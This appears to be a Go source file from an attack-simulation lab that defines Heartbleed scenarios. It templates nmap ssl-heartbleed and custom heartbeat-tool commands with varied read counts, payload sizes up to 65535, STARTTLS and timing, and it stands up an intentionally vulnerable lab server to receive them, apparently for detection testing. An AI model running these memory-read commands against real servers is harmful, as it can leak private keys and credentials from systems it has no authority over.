package lab

import (
	"context"
	"fmt"
	"strings"
	"time"

	"firetower/internal/attack"
)

// heartbleeds: reads from a TLS server that gives more than it was sent.
func heartbleeds() []Scenario {
	reads := family{class: attack.Heartbleed, limit: 50 * time.Second, play: readMemory}
	return []Scenario{
		reads.row("nmap-heartbleed", "nmap -n -Pn -p PORT --script ssl-heartbleed VICTIM"),
		reads.row("heartbleed-once", "SELF heartbeat -to VICTIM:PORT -reads 1 -size SIZE"),
		reads.row("heartbleed-some", "SELF heartbeat -to VICTIM:PORT -reads READS -size SIZE -every 500ms"),
		reads.row("heartbleed-many", "SELF heartbeat -to VICTIM:PORT -reads 40 -size 65535 -every 300ms"),
		reads.row("heartbleed-anew", "SELF heartbeat -to VICTIM:PORT -connections READS -reads 1 -size SIZE -every 1s"),
		reads.row("heartbleed-mail", "SELF heartbeat -to VICTIM:25 -starttls -reads READS -size SIZE -every 800ms"),
		reads.row("heartbleed-pieces", "SELF heartbeat -to VICTIM:PORT -segment 3 -reads READS -size SIZE -every 700ms"),
		reads.row("heartbleed-patient", "SELF heartbeat -to VICTIM:PORT -connections 3 -reads 2 -size SIZE -every 6s"),
		reads.row("heartbleed-small", "SELF heartbeat -to VICTIM:PORT -reads READS -size 600 -every 700ms"),
	}
}

func readMemory(ctx context.Context, r *Run, line string) error {
	a, err := r.attacker(ctx)
	if err != nil {
		return err
	}
	victim, err := r.host(ctx, "bleeding", true)
	if err != nil {
		return err
	}
	port := r.pick("443", "443", "444", "8443", "993")
	if err := victim.Serve(self(), "actor", "bleed", "-listen", ":"+port); err != nil {
		return err
	}
	if err := victim.Serve(self(), "actor", "bleed", "-listen", ":25", "-starttls"); err != nil {
		return err
	}
	r.against(victim)
	pause(ctx, 300*time.Millisecond)
	line = strings.NewReplacer("VICTIM", r.at(victim).String(), "PORT", port, "READS", fmt.Sprint(r.between(3, 15)),
		"SIZE", r.pick("16384", "65535", "4096", "32768")).Replace(line)
	if rest, ok := strings.CutPrefix(line, "SELF "); ok {
		r.actor(ctx, a, "%s", rest)
		return nil
	}
	r.play(ctx, a, "%s", line)
	return nil
}
